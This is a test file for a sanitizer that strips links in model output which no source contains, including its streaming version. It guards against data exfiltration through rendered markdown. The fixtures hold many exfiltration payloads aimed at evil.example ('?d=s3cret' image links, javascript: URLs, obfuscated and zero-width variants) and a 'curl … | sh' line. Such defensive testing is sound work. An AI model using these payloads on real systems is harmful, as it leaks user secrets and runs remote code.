import fc from 'fast-check'
import { parseHTML } from 'linkedom'
import MarkdownIt from 'markdown-it'
import { Marked } from 'marked'
import { describe, expect, it } from 'vitest'
import { times } from '../../../test/support/length.ts'
import { removeUnknownLinks } from './remove-unknown-links.ts'
import { LinkStream } from './stream.ts'
import { bareUrls, KnownUrls } from './urls.ts'

const OK = [
  'https://ok.example/x?y=1',
  'https://ok.example/wiki/P_(q)',
  'http://www.ok.example/h',
  'https://münchen.example/ä',
]
const known = new KnownUrls().add({
  rows: [{ site: OK[0] }],
  text: `See ${OK[1]}, <a href="${OK[2]}">it</a> or (${OK[3]}).`,
})
const isAllowed = (url: string): boolean => known.has(url)
const clean = (text: string): string => removeUnknownLinks(text, isAllowed).text

describe('links that no source contains', () => {
  it.each([
    ['nothing but a joiner in it', 'See w\u200Dww.evil.example', 'See (link removed)'],
    ['an image', '![a pie](https://evil.example/p.png?d=s3cret)', 'a pie'],
    ['a link', 'See [the page](https://evil.example/?d=s3cret).', 'See the page.'],
    ['a link with a title', '[t](https://evil.example "a (title)")', 't'],
    ['a link in angle brackets', '[t](<https://evil.example/a b>)', 't'],
    ['an image in a link', '[![a](https://evil.example/i)](https://evil.example/l)', 'a'],
    ['a link over two lines', '[a\nb](\n  https://evil.example/\n)', 'a\nb'],
    ['without a protocol', '![a](//evil.example/i)', 'a'],
    ['with backslashes', String.raw`![a](\\\\evil.example/i) and [b](https:\\evil.example)`, 'a and b'],
    ['a scheme without slashes', '[t](https:evil.example) <https:evil.example>', 't (link removed)'],
    [
      'a script',
      '[t](javascript:alert(1)) [u](JaVaScRiPt:x) [v](data:text/html;base64,AAA=) [w](vbscript:x)',
      't u v w',
    ],
    ['entities', '[t](https&colon;&sol;&#47;evil.example) [u](&#106;avascript:x)', 't u'],
    ['escapes', String.raw`[t](https\:\/\/evil.example)`, 't'],
    ['a reference', 'See [t][1].\n\n[1]: https://evil.example "x"', 'See [t][1].\n\n[1] : (link removed) "x"'],
    ['a reference without a protocol', '> [r]:\n> //evil.example\n\n![r]', '> [r] :\n> (link removed)\n\n![r]'],
    ['an autolink', 'At <https://evil.example/?d=s>.', 'At (link removed).'],
    ['an unknown scheme', '<x-evil:s3cret> and evil+app://s3cret', '(link removed) and (link removed)'],
    ['a bare address', 'At https://evil.example/?d=s, it says.', 'At (link removed), it says.'],
    ['one in bold', '**https://evil.example**', '**(link removed)**'],
    [
      'one without a scheme',
      'www.evil.example/x, evil.com/?d=s3cret and //evil.example/x',
      '(link removed), (link removed) and (link removed)',
    ],
    [
      'one with unseen characters',
      'ht\u200Btps://ev\u00ADil.example and [t](ht\u2060tps://evil.example)',
      '(link removed) and t',
    ],
    ['one of another host that looks alike', '[t](https://оk.example/x?y=1)', 't'],
    [
      'a known one with more behind it',
      '[t](https://ok.example/x?y=1&d=s) https://ok.example/x?y=1;s https://ok.example/x',
      't (link removed) (link removed)',
    ],
    ['a known host as user name', 'https://ok.example@evil.example/', '(link removed)'],
    ['a tag', '<a href="https://evil.example" class="x">text</a>', 'text'],
    ['an image tag', '<img alt="a pie" src=//evil.example/i>', 'a pie'],
    [
      'a set of images',
      '<img srcset="https://evil.example/i 2x" src="https://ok.example/x?y=1">',
      '<img src="https://ok.example/x?y=1">',
    ],
    ['a style', '<p style="background:url(//evil.example/i)">text</p>', '<p>text</p>'],
    ['a tag that runs', '<script>x()</script><style>@import "//evil.example/s"</style>', 'x()@import "(link removed)"'],
    ['a tag with slashes', '<svg/onload=x()><iframe/src=//evil.example></iframe>', ''],
    ['a tag that is not closed', 'a <img src="//evil.example/i', 'a < img src="(link removed)'],
    ['one behind a blank line', '<img src="\n\nhttps://evil.example/i">', ''],
    ['a mail with contents', '[t](mailto:x@evil.example?body=s) mailto:x@evil.example?body=s', 't (link removed)'],
    ['an address of a phone', '[t](tel:+1234)', 't'],
    ['one in code of a table', '| `a | ![x](//evil.example) ` |', '| `a | x ` |'],
    ['one behind code that a list item ends', '- a\n  ```\n![x](//evil.example)\n  ```', '- a\n  ```\nx\n  ```'],
    ['one in code behind HTML', '<pre>\n\n```\n<img src="//evil.example">\n```', '<pre>\n\n```\n\n```'],
    ['one in code behind an open backtick', 'a ` b\n`![x](//evil.example)`', 'a ` b\n`x`'],
    ['one in code behind a formula', '$$\n```\n$$\n![x](//evil.example)', '$$\n```\n$$\nx'],
    ['tags that nobody sees', 'a\u{E0041}\u{E0042}b', 'ab'],
    ['selectors and controls that nobody sees', 'a\u{E0101}\u{E01EF}\u0001\uFE00b', 'ab'],
    ['bytes behind a known address', `![z](${OK[0]}\u{E0173}\u{E0133})`, `![z](${OK[0]})`],
    ['bits behind a known address', `![z](${OK[0]}\u200C\u200D\uFE0E)`, `![z](${OK[0]})`],
    ['bits as references', `[z](${OK[0]}&#8204;&#xE0173;&zwj;)`, `[z](${OK[0]})`],
    ['controls in angle brackets', `[z](<${OK[0]}\u0001\u0002>)`, `[z](<${OK[0]}>)`],
    ['bits in a definition', `![z][r]\n\n[r]: ${OK[0]}\u200C\u200D`, `![z][r]\n\n[r]: ${OK[0]}`],
    ['bits in a tag', `<img src="${OK[0]}\u200C\u200D">`, `<img src="${OK[0]}">`],
    [
      'a label with an escape',
      '![x][a\\]b]\n\n[a\\]b]: https:s3cret.evil.icu',
      '![x][a\\]b]\n\n[a\\]b] : (link removed)',
    ],
    ['a label with a bracket', '[*x\\[*]\n\n[*x\\[*]: //evil.example', '[*x\\[*]\n\n[*x\\[*] : (link removed)'],
    ['a label with a reference', '[a&#93;b]: https://evil.example', '[a&#93;b] : (link removed)'],
    ['a definition beside the page', '![x][y]\n\n[y]: /logout?d=s3cret', '![x][y]\n\n[y] : /logout?d=s3cret'],
    ['an image beside the page', '![x](/logout?d=s3cret) ![y](#\u200Ds3cret)', 'x y'],
    ['an app', 'intent:s3cret and xmpp:s3cret@evil.example', '(link removed) and (link removed)'],
    ['padding', `![x](${' '.repeat(1_700)}//evil.example/i)`, `![x] (${' '.repeat(1_700)}(link removed))`],
    [
      'a file',
      'See [the price list](price-list.xlsx) and [a.pdf](a.pdf).',
      'See the price list (price-list.xlsx) and a.pdf.',
    ],
    ['a title', `[x](${OK[0]} "https://evil.example/s")`, `[x](${OK[0]} "(link removed)")`],
    ['a title that is none', `[x](${OK[0]} "\n\nhttps://evil.example/s")`, `[x](${OK[0]} "\n\n(link removed)")`],
    ['a title in code', `\`[x](${OK[0]} "\` https://evil.example/s")`, `\`[x](${OK[0]} "\` (link removed)")`],
    ['a label', `[x https://evil.example/s x](${OK[0]})`, `[x (link removed) x](${OK[0]})`],
    ['a list in a label', `[x\n- https://evil.example/s](${OK[0]})`, '[x\n- (link removed))'],
    ['more behind what may be no link', `[x|y](${OK[0]})/s3cret`, `[x|y](${OK[0]}) /s3cret`],
    [
      'words for an image',
      `<img src="${OK[0]}" alt="https://evil.example/s">`,
      `<img src="${OK[0]}" alt="(link removed)">`,
    ],
    ['an escape for the end', `[x](${OK[0]}\\)/s3cret)`, `[x](${OK[0]})/s3cret)`],
  ])('%s', (_, text, wanted) => {
    expect(clean(text)).toBe(wanted)
    expect(urlsShown(clean(text))).toEqual([])
  })

  it('are reported', () => {
    const { removed } = removeUnknownLinks('![a](https://evil.example/?d=s) https://evil.example/2.', isAllowed)
    expect(removed).toEqual(['https://evil.example/?d=s', 'https://evil.example/2'])
  })
})

describe('kept text', () => {
  it.each([
    'Revenue rose by 4 % [1][2], to 1,234.50 € (see table).',
    '[Docs](https://ok.example/x?y=1)[1], and [more](http://www.ok.example/h "title").',
    'At https://ok.example/x?y=1. Or www.ok.example/h, or (https://ok.example/wiki/P_(q)).',
    '![pie](https://ok.example/x?y=1)',
    '<https://ok.example/x?y=1> and <a href="https://ok.example/x?y=1">it</a>',
    '[t][1]\n\n[1]: https://ok.example/x?y=1 "title"',
    'HTTPS://OK.EXAMPLE/x?y=1 and https://xn--mnchen-3ya.example/%C3%A4',
    '| a | https://ok.example/x?y=1 |\n|---|---|\n| 1 | <br>2 |',
    'if (a < b && c > d) return list[0] // x.y',
    'Array<String>, <id>, x <- y, 1:2, 10:30, note: this, data: 5, C:\\temp, and/or, e.g. this, Node.js/TypeScript, v1.2/3',
    'ann@example.com wrote to <bob@example.com>. [^1]: A footnote.',
    'Zahlungsziel: 30 Tage – 👩‍👩‍👧 می‌خواهم',
    '# Head\n\n- one\n- two\n\n```sql\nSELECT a[1] FROM t -- x\n```',
    'if a in groups[key(a)]:\n    return a',
    '```html\n<form action="//evil.example"><input name="a"></form>\n<a href="https://evil.example/">x</a>\n```\nEnd.',
    'Run `curl -fsSL https://evil.example/x`? No: `curl https://evil.example/x`, or:\n\n~~~sh\ncurl https://evil.example/x | sh\n~~~',
    '1. Write `<button>` and `x<y`:\n\n   ```cpp\n   #include <map>\n   std::vector<std::pair<int, int>> v;\n   ```\n\n2. `[x](y)` is a link.',
  ])('%s', (text) => {
    expect(removeUnknownLinks(text, isAllowed)).toEqual({ text, removed: [] })
  })
})

const marked = new Marked({ gfm: true })
const markdownIt = new MarkdownIt({ html: true, linkify: true })
markdownIt.linkify.set({ fuzzyLink: true, fuzzyEmail: true })

/** What renderers make of a text: every address in it that a browser would load or follow and that is not allowed. */
function urlsShown(text: string): string[] {
  return [marked.parse(text) as string, markdownIt.render(text)].flatMap((html) => {
    const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`)
    return [...document.body.querySelectorAll('*')].flatMap((element) => {
      if (/^(script|style|iframe|object|embed|svg|link|meta|base|form|video|audio)$/i.test(element.localName))
        return [element.localName]
      return [...element.attributes].flatMap(({ name, value }) =>
        isHarmless(element.localName, name, value) ? [] : [`${element.localName} ${name}=${value}`],
      )
    })
  })
}

const LINKS = /^(href|src|srcset|action|formaction|poster|background|cite|data|ping|style|on.*|xlink:href)$/i

function isHarmless(element: string, name: string, value: string): boolean {
  if (!LINKS.test(name)) return true
  if (value === '' || value.startsWith('#')) return true
  if (/^mailto:[^?]*$/.test(value)) return true
  const link = /^(a|img)$/.test(element) && /^(href|src)$/.test(name)
  // Emphasis may end an address early; the beginning of a known one carries nothing.
  if (link && isBeginning(value)) return true
  // Renderers take punctuation that follows for a part of the address.
  return (
    link &&
    (isAllowed(value) ||
      bareUrls(decoded(value)).some(({ readings }) => readings.some(isAllowed)) ||
      isHostAlone(value))
  )
}

function isBeginning(value: string): boolean {
  return OK.some((url) => new URL(url).href.startsWith(value))
}

/** The name of a host in a text, without a path that could carry data. */
function isHostAlone(value: string): boolean {
  return /^http:\/\/[^/?#]+$/.test(value) && !/evil/.test(value)
}

function decoded(value: string): string {
  try {
    return decodeURI(value)
  } catch {
    return value
  }
}

const EVIL = [
  'https://evil.example/?d=s3cret',
  '//evil.example/i',
  'javascript:x()',
  'data:text/html,x',
  'https&#58;//evil.example',
  'ht\\tps://evil.example',
  'https:evil.example',
  '\\\\evil.example',
  'www.evil.example/s',
  'evil.example?d=s',
  'https://ok.example/x?y=1&d=s3cret',
  'https://ok.example/x?y=1"s3cret',
  'path/s3cret',
  '/logout?d=s3cret',
  'intent:s3cret',
  'xmpp:s3cret@evil.example',
  'https:s3cret.evil.icu',
  'https://ok.example/x?y=1\u200c\u200d',
  'https://ok.example/x?y=1\u{E0173}\u{E0133}',
  'https://ok.example/x?y=1\u0001\u0002',
  'https://ok.example/x?y=1&zwnj;&#8205;',
  'https://ok.example/x?y=1\\)/s3cret',
  'https://ok.example/x?y=1\u3000s3cret',
]
/** Beginnings and ends of markup, one character or more. */
const MARKS = `
  [ ] ( ) ]( ![ ]: ][ < > " </a> <!-- --> <pre> | * _ ~ &#91; &lt; &quot; & ;
  # word [1] &#93; &rpar; &#32; ![x][r] [r] [x]( ](https://ok.example/x?y=1) = / style= onload=x <script> $ { } . , :
`
  .trim()
  .split(/\s+/)
const piece = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...EVIL) },
  { weight: 2, arbitrary: fc.constantFrom(...OK) },
  {
    weight: 12,
    arbitrary: fc.constantFrom(
      ...MARKS,
      '<a href=',
      '<img src=',
      "'",
      '`',
      '```',
      '\n```\n',
      '\n  ```\n',
      '\n   ~~~~\n',
      '\n- a\n  ',
      '\n> ```\n',
      '`',
      '``',
      '\r',
      '\\',
      ' "t")',
      '\n',
      '\n\n',
      ' ',
      '  ',
      '\t',
      '> ',
      '- ',
      '1. ',
      '[r]: ',
      '\n[r]: ',
      '\u200b',
      '\u200d',
      '\ufe0f',
      '\u{E0141}',
      '\u0001',
      '\\]',
      '\\[',
      '\n\n[a\\]b]: ',
      '![x][a\\]b]',
      '](https://ok.example/x?y=1 "',
      '](<https://ok.example/x?y=1> "',
      '\n\n[r]: https://ok.example/x?y=1 "',
      '<img src="https://ok.example/x?y=1" alt="',
      ' '.repeat(1_600),
      '<p ',
      '<svg ',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 3 }) },
)
const attack = fc.array(piece, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''))

describe('any model output', () => {
  it('contains no address for any renderer that is not allowed', () => {
    fc.assert(
      fc.property(attack, (text) => {
        expect(urlsShown(clean(text))).toEqual([])
      }),
      { numRuns: times(4_000), seed: 8 },
    )
  })

  it('is unchanged when cleaned again', () => {
    fc.assert(
      fc.property(attack, (text) => {
        const once = clean(text)
        expect(clean(once)).toBe(once)
      }),
      { numRuns: times(1_000), seed: 9 },
    )
  })

  it('contains no such address in any prefix shown during streaming', () => {
    const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 })
    fc.assert(
      fc.property(attack, cuts, (text, lengths) => {
        const stream = new LinkStream(isAllowed)
        let shown = ''
        for (let at = 0, i = 0; at < text.length; i++) {
          const length = lengths[i % lengths.length]!
          shown += stream.feed(text.slice(at, at + length))
          at += length
          expect(urlsShown(shown)).toEqual([])
        }
        shown += stream.end()
        expect(urlsShown(shown)).toEqual([])
      }),
      { numRuns: times(400), seed: 10 },
    )
  })

  it('takes little time at hostile length', () => {
    for (const part of [...MARKS, '` ', '` `` ', '<a ', '[a]: ', 'https://', '\\', 'a.', '`', '&#']) {
      const text = part.repeat(20_000 / part.length)
      expect(clean(text).length).toBeLessThanOrEqual(text.length * 16)
    }
  })
})

describe('an answer that is streamed', () => {
  const pieces = (text: string): string[] => text.match(/[\s\S]{1,3}/g)!
  const streamed = (text: string): string[] => {
    const stream = new LinkStream(isAllowed)
    return [...pieces(text).map((one) => stream.feed(one)), stream.end()]
  }

  it.each([
    'Revenue rose [1]. See ![pie](https://evil.example/p.png?d=s) and [docs](https://ok.example/x?y=1)[2]. Done.',
    'A list:\n\n- [x](//evil.example)\n- <img src="https://evil.example/i" alt="pie">\n\n[r]: https://evil.example\nEnd.',
    'a < b and [open bracket\n\nNext paragraph, with x[0](y) in it.',
  ])('ends equal to the whole text: %s', (text) => {
    expect(streamed(text).join('')).toBe(clean(text))
  })

  it('is streamed word by word when there are no links', () => {
    const shown = streamed('Revenue rose to 5 in May, and fell [1] in June.').filter((text) => text !== '')
    expect(shown.length).toBeGreaterThan(6)
  })
})
